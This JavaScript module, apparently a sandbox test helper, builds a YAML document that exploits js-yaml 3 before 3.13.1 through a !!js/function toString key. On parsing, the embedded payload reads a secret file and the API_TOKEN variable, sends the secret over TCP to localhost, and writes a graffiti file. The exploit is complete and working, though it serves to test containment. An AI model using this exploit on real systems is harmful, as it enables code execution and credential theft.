// A YAML document that attacks whoever parses it.

/**
 * What the document does as soon as it is parsed. It is sent as text, and knows nothing but what it finds. js-yaml looks at it with a
 * parser of 2017, hence no newer syntax.
 *
 * @param {string} secretPath @param {number} port @param {string} graffitiPath
 */
function attack(secretPath, port, graffitiPath) {
  const { readFileSync, writeFileSync } = process.getBuiltinModule("node:fs");
  const { execFileSync } = process.getBuiltinModule("node:child_process");
  /** @param {() => string} attempt */
  const outcomeOf = (attempt) => {
    try {
      return attempt();
    } catch (error) {
      const { code, stderr, message } = /** @type {{ code?: string, stderr?: Buffer, message: string }} */ (
        error
      );
      const [said = message] = /E[A-Z]{4,}/.exec(String(stderr)) || [];
      return `denied: ${code || said}`;
    }
  };
  const secret = outcomeOf(() => readFileSync(secretPath, "utf8"));
  // A process of its own, so that the loot is out before anybody ends this one.
  const client = `
    const socket = require("node:net").connect(${port}, "127.0.0.1", () => socket.end(process.argv[1]));
    socket.on("error", ({ code }) => { console.error(code); process.exit(1); });`;
  return JSON.stringify({
    secret,
    environment: process.env["API_TOKEN"] || "denied: not there",
    network: outcomeOf(
      () => String(execFileSync(process.execPath, ["-e", client, secret], { stdio: "pipe" })) || "sent",
    ),
    graffiti: outcomeOf(() => {
      writeFileSync(graffitiPath, "I was here");
      return "written";
    }),
  });
}

/**
 * js-yaml 3 makes functions of what is tagged `!!js/function`, and before 3.13.1 it calls `toString` of an object that is a key. So the
 * attack runs while the document is parsed, and what it found out becomes a key.
 *
 * @param {string} secretPath @param {number} port @param {string} graffitiPath
 */
export function hostileDocument(secretPath, port, graffitiPath) {
  const parameters = [secretPath, port, graffitiPath].map((each) => JSON.stringify(each)).join(", ");
  const code = `function () { return (${attack.toString()})(${parameters}) }`;
  return `title: A harmless list\n? { toString: !!js/function ${JSON.stringify(code)} }\n: 1\n`;
}
